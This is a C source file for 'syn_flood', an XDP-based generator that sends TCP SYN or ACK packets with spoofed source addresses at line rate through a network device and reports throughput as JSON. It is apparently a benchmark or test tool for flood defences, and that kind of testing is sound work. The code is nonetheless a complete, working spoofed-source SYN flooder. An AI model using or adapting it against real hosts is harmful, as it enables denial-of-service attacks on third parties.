/* SPDX-License-Identifier: GPL-2.0-or-later */
/*
 * syn_flood - SYNs from made-up addresses, as fast as one core can make them
 *
 * Runs an XDP program on live frames (BPF_PROG_RUN): each frame becomes a SYN with a source address
 * out of the given prefixes, a port and a sequence number of its own and valid checksums, and leaves
 * by DEVICE. The other end of DEVICE has to take frames as they come: for veth that is an XDP program
 * on both ends. Nothing here answers what comes back.
 *
 * The result is one line of JSON:
 *
 *   made      frames that were made and given to the device
 *   dropped   those that it had no room for: the other end is slower
 *   sent      the rest
 *   seconds   how long it took
 *   pps       sent in a second
 *
 * Sources can also be a file's, one after the other, and again from its first when it ends.
 *
 * With --rate the same core waits for each frame's moment, busily; with --bursts as well, it sends
 * those of two milliseconds at once and sleeps until the next ones are due. It ends after --seconds, or on
 * SIGINT and SIGTERM.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <getopt.h>
#include <inttypes.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/ether.h>
#include <netinet/ip.h>
#include <netinet/ip6.h>
#include <netinet/tcp.h>
#include <sched.h>
#include <signal.h>
#include <stdarg.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <sys/time.h>
#include <time.h>
#include <unistd.h>

#include <bpf/bpf.h>

#include "syn_flood.h"
#include "syn_flood.skel.h"

#define NSEC_PER_SEC 1000000000ULL
#define MAX_SECONDS 600
#define MAX_SOURCES (1 << 26)
/* Frames of one call: what is counted is int. A batch ends with a flush of the device. */
#define FRAMES_AT_ONCE INT32_MAX
#define BATCH 64
#define BURST_TIME 2000000ULL /* ns; a veth has room for 256 frames */

struct run {
	const char *device;
	struct ether_addr to, from;
	struct in_addr host4;
	struct in6_addr host6;
	bool has4, has6;
	uint16_t port;
	uint64_t milliseconds;
	const char *sources; /* file, or NULL */
	bool is_ack, in_bursts, bad_checksum;
	int cpu; /* -1: any */
	uint64_t frame_time; /* ns from one frame to the next; 0: full rate */
	struct flood_config config;
	unsigned int prefixes;
};

static volatile sig_atomic_t is_over;

static void on_signal(int signal)
{
	(void)signal;
	is_over = 1;
}

__attribute__((format(printf, 2, 3), noreturn)) static void die(int error, const char *format, ...)
{
	va_list args;

	fputs("syn_flood: ", stderr);
	va_start(args, format);
	vfprintf(stderr, format, args);
	va_end(args);
	if (error)
		fprintf(stderr, ": %s", strerror(error));
	fputc('\n', stderr);
	exit(EXIT_FAILURE);
}

static uint64_t parse_number(const char *text, const char *what, uint64_t max)
{
	char *end;
	unsigned long long number;

	errno = 0;
	number = strtoull(text, &end, 10);
	if (errno || end == text || *end || *text == '-' || number > max)
		die(0, "%s: '%s' is not a number from 0 to %" PRIu64, what, text, max);
	return number;
}

/* ADDRESS/LENGTH: bits past the length are random. */
static void add_prefix(struct run *run, const char *text)
{
	struct flood_prefix *prefix = &run->config.prefixes[run->prefixes];
	char address[INET6_ADDRSTRLEN] = "";
	const char *slash = strchr(text, '/');
	uint8_t random[16] = {}, fixed[16] = {};
	unsigned int len, bits;

	if (run->prefixes++ == FLOOD_PREFIXES)
		die(0, "more than %d prefixes", FLOOD_PREFIXES);
	if (!slash || (size_t)(slash - text) >= sizeof(address))
		die(0, "'%s' is not ADDRESS/LENGTH", text);
	memcpy(address, text, (size_t)(slash - text));
	prefix->version = strchr(address, ':') ? 6 : 4;
	bits = prefix->version == 4 ? 32 : 128;
	if (inet_pton(prefix->version == 4 ? AF_INET : AF_INET6, address, fixed) != 1)
		die(0, "'%s' is not an address", address);
	len = (unsigned int)parse_number(slash + 1, text, bits);
	for (unsigned int bit = len; bit < bits; bit++)
		random[bit / 8] |= (uint8_t)(0x80 >> bit % 8);
	for (unsigned int i = 0; i < sizeof(fixed); i++)
		fixed[i] &= (uint8_t)~random[i];
	memcpy(prefix->addr, fixed, sizeof(fixed));
	memcpy(prefix->random, random, sizeof(random));
}

/* Each place gets a prefix, so that choosing one is a mask. */
static void spread_prefixes(struct run *run)
{
	if (run->sources && (run->prefixes || !run->has4))
		die(0, "a file of sources instead of prefixes, and an IPv4 host");
	if (run->sources)
		add_prefix(run, "0.0.0.0/0");
	if (!run->prefixes && run->has4) {
		add_prefix(run, "64.0.0.0/3");
		add_prefix(run, "128.0.0.0/2");
	}
	if (!run->prefixes)
		add_prefix(run, "2000::/3");
	for (unsigned int i = 0; i < run->prefixes; i++)
		if (!(run->config.prefixes[i].version == 4 ? run->has4 : run->has6))
			die(0, "no host of the family of a prefix");
	for (unsigned int i = run->prefixes; i < FLOOD_PREFIXES; i++)
		run->config.prefixes[i] = run->config.prefixes[i % run->prefixes];
}

/* RFC 1071, not folded; len is even. */
static uint32_t sum_of(const void *data, size_t len)
{
	const uint8_t *bytes = data;
	uint32_t sum = 0;
	uint16_t half;

	for (size_t i = 0; i < len; i += sizeof(half)) {
		memcpy(&half, bytes + i, sizeof(half));
		sum += half;
	}
	return sum;
}

static size_t write_ethernet(const struct run *run, uint8_t *to, uint16_t type)
{
	struct ether_header eth = { .ether_type = htons(type) };

	memcpy(eth.ether_dhost, &run->to, sizeof(eth.ether_dhost));
	memcpy(eth.ether_shost, &run->from, sizeof(eth.ether_shost));
	memcpy(to, &eth, sizeof(eth));
	return sizeof(eth);
}

/* A SYN with one option; returns its length. addr_sum: of the destination address. */
static size_t write_tcp(const struct run *run, uint8_t *to, uint32_t addr_sum, uint32_t *sum)
{
	static const uint8_t mss[] = { TCPOPT_MAXSEG, TCPOLEN_MAXSEG, 1460 >> 8, 1460 & 0xff };
	struct tcphdr tcp = { .th_dport = htons(run->port),
			      .th_off = (sizeof(tcp) + sizeof(mss)) / 4,
			      .th_flags = run->is_ack ? TH_ACK : TH_SYN,
			      .th_win = htons(64240) };
	size_t len = sizeof(tcp) + sizeof(mss);

	memcpy(to, &tcp, sizeof(tcp));
	memcpy(to + sizeof(tcp), mss, sizeof(mss));
	*sum = sum_of(to, len) + addr_sum + htons(IPPROTO_TCP) + htons((uint16_t)len);
	return len;
}

static void write_frame4(struct run *run)
{
	struct flood_frame *frame = &run->config.v4;
	uint8_t *at = (uint8_t *)frame->words;
	size_t ip_at = write_ethernet(run, at, ETHERTYPE_IP);
	struct iphdr ip = { .version = 4,
			    .ihl = sizeof(ip) / 4,
			    .ttl = 64,
			    .protocol = IPPROTO_TCP,
			    .frag_off = htons(IP_DF),
			    .daddr = run->host4.s_addr };
	size_t len = write_tcp(run, at + ip_at + sizeof(ip), sum_of(&ip.daddr, sizeof(ip.daddr)),
			       &frame->tcp_sum);

	ip.tot_len = htons((uint16_t)(sizeof(ip) + len));
	memcpy(at + ip_at, &ip, sizeof(ip));
	frame->ip_sum = sum_of(&ip, sizeof(ip));
}

static void write_frame6(struct run *run)
{
	struct flood_frame *frame = &run->config.v6;
	uint8_t *at = (uint8_t *)frame->words;
	size_t ip_at = write_ethernet(run, at, ETHERTYPE_IPV6);
	struct ip6_hdr ip = { .ip6_flow = htonl(6U << 28),
			      .ip6_nxt = IPPROTO_TCP,
			      .ip6_hlim = 64,
			      .ip6_dst = run->host6 };
	size_t len = write_tcp(run, at + ip_at + sizeof(ip),
			       sum_of(&ip.ip6_dst, sizeof(ip.ip6_dst)), &frame->tcp_sum);

	ip.ip6_plen = htons((uint16_t)len);
	memcpy(at + ip_at, &ip, sizeof(ip));
}

/* The device's own address, and its index. */
static void find_device(struct run *run)
{
	int fd = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
	struct ifreq request = {};

	snprintf(request.ifr_name, sizeof(request.ifr_name), "%s", run->device);
	run->config.ifindex = if_nametoindex(run->device);
	if (fd < 0 || !run->config.ifindex || ioctl(fd, SIOCGIFHWADDR, &request))
		die(errno, "device %s", run->device);
	memcpy(&run->from, request.ifr_hwaddr.sa_data, sizeof(run->from));
	close(fd);
}

/* Frames that the device could not send, since it is there: the 12th number of its line. */
static uint64_t device_drops(const struct run *run)
{
	FILE *file = fopen("/proc/self/net/dev", "re");
	char line[512], *at;
	uint64_t drops = 0;
	size_t len = strlen(run->device);

	if (!file)
		die(errno, "/proc/self/net/dev");
	while (fgets(line, sizeof(line), file)) {
		at = line + strspn(line, " ");
		if (!strncmp(at, run->device, len) && at[len] == ':' &&
		    sscanf(at + len + 1, "%*u%*u%*u%*u%*u%*u%*u%*u%*u%*u%*u%" SCNu64, &drops) != 1)
			die(0, "/proc/self/net/dev: no drops of %s", run->device);
	}
	fclose(file);
	return drops;
}

static uint64_t now_nsec(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (uint64_t)ts.tv_sec * NSEC_PER_SEC + (uint64_t)ts.tv_nsec;
}

/* A signal ends the call, and with it the run; it is asked for again in case it comes before. */
static void arm(const struct run *run)
{
	const struct sigaction action = { .sa_handler = on_signal };
	const struct itimerval timer = { .it_value.tv_sec = (time_t)(run->milliseconds / 1000),
					 .it_value.tv_usec = run->milliseconds % 1000 * 1000,
					 .it_interval.tv_usec = 10000 };

	if (sigaction(SIGALRM, &action, NULL) || sigaction(SIGINT, &action, NULL) ||
	    sigaction(SIGTERM, &action, NULL) || setitimer(ITIMER_REAL, &timer, NULL))
		die(errno, "signals");
}

static void sleep_until(uint64_t nsec)
{
	const struct timespec until = { .tv_sec = (time_t)(nsec / NSEC_PER_SEC),
					.tv_nsec = (long)(nsec % NSEC_PER_SEC) };

	/* A signal ends the run: who is woken by one looks whether it did. */
	(void)clock_nanosleep(CLOCK_MONOTONIC, TIMER_ABSTIME, &until, NULL);
}

/* How many frames are to be sent now: all that are due, and not yet sent. */
static int next_burst(const struct run *run, uint64_t began, uint64_t sent)
{
	uint64_t due = (now_nsec() - began + BURST_TIME) / run->frame_time;

	return due > sent ? (int)(due - sent) : 0;
}

static void flood(const struct run *run, int program)
{
	uint8_t frame[FLOOD_FRAME6] = {};
	LIBBPF_OPTS(bpf_test_run_opts, opts, .data_in = frame, .data_size_in = sizeof(frame),
		    .repeat = FRAMES_AT_ONCE, .flags = BPF_F_TEST_XDP_LIVE_FRAMES,
		    .batch_size = BATCH);
	uint64_t began = now_nsec(), sent = 0;
	int err = 0;

	arm(run);
	while (!is_over && !err) {
		if (run->in_bursts) {
			opts.repeat = next_burst(run, began, sent);
			sent += (uint64_t)opts.repeat;
		}
		if (opts.repeat)
			err = bpf_prog_test_run_opts(program, &opts);
		if (run->in_bursts)
			sleep_until(now_nsec() + BURST_TIME);
		if (err == -EINTR)
			err = 0;
	}
	if (err)
		die(-err, "sending by %s", run->device);
}

static void pin(const struct run *run)
{
	cpu_set_t cpus;

	if (run->cpu < 0)
		return;
	CPU_ZERO(&cpus);
	CPU_SET(run->cpu, &cpus);
	if (sched_setaffinity(0, sizeof(cpus), &cpus))
		die(errno, "CPU %d", run->cpu);
}

/* How many addresses the file has, 4 bytes each; 0 if there is none. */
static size_t count_sources(const struct run *run)
{
	struct stat stat_buf;

	if (!run->sources)
		return 0;
	if (stat(run->sources, &stat_buf))
		die(errno, "%s", run->sources);
	if (stat_buf.st_size < 4 || stat_buf.st_size / 4 > MAX_SOURCES)
		die(0, "%s: from 1 to %d addresses", run->sources, MAX_SOURCES);
	return (size_t)stat_buf.st_size / 4;
}

static void read_sources(const struct run *run, const struct bpf_map *map, size_t count)
{
	FILE *file = fopen(run->sources, "re");
	uint64_t *to = mmap(NULL, count * sizeof(*to), PROT_READ | PROT_WRITE, MAP_SHARED,
			    bpf_map__fd(map), 0);
	uint32_t addr;

	if (!file || to == MAP_FAILED)
		die(errno, "%s", run->sources);
	for (size_t i = 0; i < count; i++) {
		if (fread(&addr, sizeof(addr), 1, file) != 1)
			die(0, "%s: too short", run->sources);
		to[i] = addr;
	}
	munmap(to, count * sizeof(*to));
	fclose(file);
}

static struct syn_flood_bpf *load(const struct run *run)
{
	struct syn_flood_bpf *skeleton = syn_flood_bpf__open();
	size_t sources = count_sources(run);

	if (!skeleton ||
	    (sources && bpf_map__set_max_entries(skeleton->maps.flood_sources, (uint32_t)sources)) ||
	    syn_flood_bpf__load(skeleton))
		die(errno, "loading the program");
	skeleton->bss->flood_config = run->config;
	skeleton->bss->flood_config.sources = sources;
	if (!run->in_bursts)
		skeleton->bss->flood_config.frame_time = run->frame_time;
	if (sources)
		read_sources(run, skeleton->maps.flood_sources, sources);
	return skeleton;
}

static void send_all(const struct run *run)
{
	struct syn_flood_bpf *skeleton = load(run);
	uint64_t began, dropped, made;
	double seconds;

	pin(run);
	dropped = device_drops(run);
	began = now_nsec();
	flood(run, bpf_program__fd(skeleton->progs.flood));
	seconds = (double)(now_nsec() - began) / NSEC_PER_SEC;
	dropped = device_drops(run) - dropped;
	made = skeleton->bss->made;
	printf("{\"made\": %" PRIu64 ", \"dropped\": %" PRIu64 ", \"sent\": %" PRIu64
	       ", \"seconds\": %.3f, \"pps\": %.0f}\n",
	       made, dropped, made - dropped, seconds, (double)(made - dropped) / seconds);
	syn_flood_bpf__destroy(skeleton);
}

__attribute__((noreturn)) static void usage(int status)
{
	fputs("usage: syn_flood [options] DEVICE MAC HOST[,HOST] PORT\n"
	      "  SYNs to HOST (one of each family) and PORT, through DEVICE to MAC\n"
	      "  -s, --source PREFIX  sources, up to 16 times (random ones)\n"
	      "  -o, --once           each IPv4 source once before any comes again\n"
	      "  -F, --sources FILE   sources, in turn: IPv4, 4 bytes each, network order\n"
	      "  -a, --ack            ACKs, not SYNs\n"
	      "  -x, --bad-checksum   a wrong TCP checksum\n"
	      "  -f, --flows N        send the same N SYNs again and again (all are new)\n"
	      "  -g, --again N        send each N SYNs a second time after them (1: twice at once)\n"
	      "  -r, --rate N         N a second (as many as can be)\n"
	      "  -b, --bursts         with --rate: sleep in between\n"
	      "  -t, --seconds N      end after so long (5)\n"
	      "  -m, --milliseconds N the same\n"
	      "  -c, --cpu N          stay on this CPU\n"
	      "  -S, --seed N         other SYNs for another seed (1)\n",
	      status ? stderr : stdout);
	exit(status);
}

static void parse_option(struct run *run, int option)
{
	uint64_t rate;

	switch (option) {
	case 's':
		add_prefix(run, optarg);
		break;
	case 'f':
		run->config.flows = parse_number(optarg, "--flows", UINT32_MAX);
		break;
	case 'g':
		run->config.again = parse_number(optarg, "--again", UINT32_MAX);
		break;
	case 'r':
		rate = parse_number(optarg, "--rate", NSEC_PER_SEC);
		run->frame_time = rate ? NSEC_PER_SEC / rate : 0;
		break;
	case 'b':
		run->in_bursts = true;
		break;
	case 't':
		run->milliseconds = 1000 * parse_number(optarg, "--seconds", MAX_SECONDS);
		break;
	case 'm':
		run->milliseconds = parse_number(optarg, "--milliseconds", MAX_SECONDS * 1000);
		break;
	case 'o':
		run->config.once = 1;
		break;
	case 'F':
		run->sources = optarg;
		break;
	case 'a':
		run->is_ack = true;
		break;
	case 'x':
		run->bad_checksum = true;
		break;
	case 'c':
		run->cpu = (int)parse_number(optarg, "--cpu", CPU_SETSIZE - 1);
		break;
	case 'S':
		run->config.seed = parse_number(optarg, "--seed", UINT32_MAX) << 32;
		break;
	case 'h':
		usage(EXIT_SUCCESS);
	default:
		usage(2);
	}
}

static void parse_hosts(struct run *run, char *hosts)
{
	char *host, *save = NULL;

	for (host = strtok_r(hosts, ",", &save); host; host = strtok_r(NULL, ",", &save)) {
		if (inet_pton(AF_INET, host, &run->host4) == 1)
			run->has4 = true;
		else if (inet_pton(AF_INET6, host, &run->host6) == 1)
			run->has6 = true;
		else
			die(0, "host '%s' is not an IPv4 or IPv6 address", host);
	}
}

int main(int argc, char **argv)
{
	static const struct option options[] = { { "source", required_argument, NULL, 's' },
						 { "once", no_argument, NULL, 'o' },
						 { "flows", required_argument, NULL, 'f' },
						 { "again", required_argument, NULL, 'g' },
						 { "rate", required_argument, NULL, 'r' },
						 { "bursts", no_argument, NULL, 'b' },
						 { "seconds", required_argument, NULL, 't' },
						 { "milliseconds", required_argument, NULL, 'm' },
						 { "sources", required_argument, NULL, 'F' },
						 { "ack", no_argument, NULL, 'a' },
						 { "bad-checksum", no_argument, NULL, 'x' },
						 { "cpu", required_argument, NULL, 'c' },
						 { "seed", required_argument, NULL, 'S' },
						 { "help", no_argument, NULL, 'h' },
						 {} };
	struct run run = { .milliseconds = 5000, .cpu = -1, .config.seed = 1ULL << 32 };
	int option;

	while ((option = getopt_long(argc, argv, "s:oF:f:g:r:bt:m:axc:S:h", options, NULL)) >= 0)
		parse_option(&run, option);
	if (argc - optind != 4)
		usage(2);
	if (run.in_bursts && !run.frame_time)
		die(0, "--bursts needs a --rate");
	if (!run.milliseconds)
		die(0, "a flood takes its time");
	run.device = argv[optind];
	if (!ether_aton_r(argv[optind + 1], &run.to))
		die(0, "'%s' is not a MAC address", argv[optind + 1]);
	parse_hosts(&run, argv[optind + 2]);
	run.port = (uint16_t)parse_number(argv[optind + 3], "port", 65535);
	spread_prefixes(&run);
	find_device(&run);
	write_frame4(&run);
	write_frame6(&run);
	if (run.bad_checksum) {
		run.config.v4.tcp_sum++;
		run.config.v6.tcp_sum++;
	}
	send_all(&run);
	return EXIT_SUCCESS;
}
